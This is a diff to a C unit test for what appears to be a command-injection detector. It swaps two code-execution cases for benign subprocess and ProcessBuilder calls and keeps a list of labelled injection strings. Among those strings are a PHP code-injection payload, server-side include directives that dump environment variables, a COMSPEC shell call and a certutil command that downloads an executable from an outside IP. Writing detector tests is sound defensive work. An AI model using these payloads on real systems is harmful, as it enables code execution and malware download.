@@ -115,8 +115,12 @@ static void test_cmdi_code_forms(void **st)
 		{"';phpinfo();//", C},
 		{"<!--#printenv -->", C},
 		{"<!--#echo var=\"DOCUMENT_ROOT\"-->", C},
-		{"subprocess.check_output(['id'])", C},
-		{"new ProcessBuilder(\"id\").start()", C},
+		/* subprocess.check_output(['id']) and ProcessBuilder("id")
+		 * are left to the reader: the merge's review found the same
+		 * calls in every Python and Java code post
+		 * (subprocess.run(["ls", "-l"]) is Python's own example) */
+		{"subprocess.run([\"ls\", \"-l\"], check=True)", N},
+		{"new ProcessBuilder(\"git\", \"status\").start()", N},
 		{"%COMSPEC% /c dir", C},
 		{"certutil.exe -urlcache -f http://10.9.8.7/a a.exe", C},
 		{"printf(\"%x(%d)\\n\", a, b);", N},
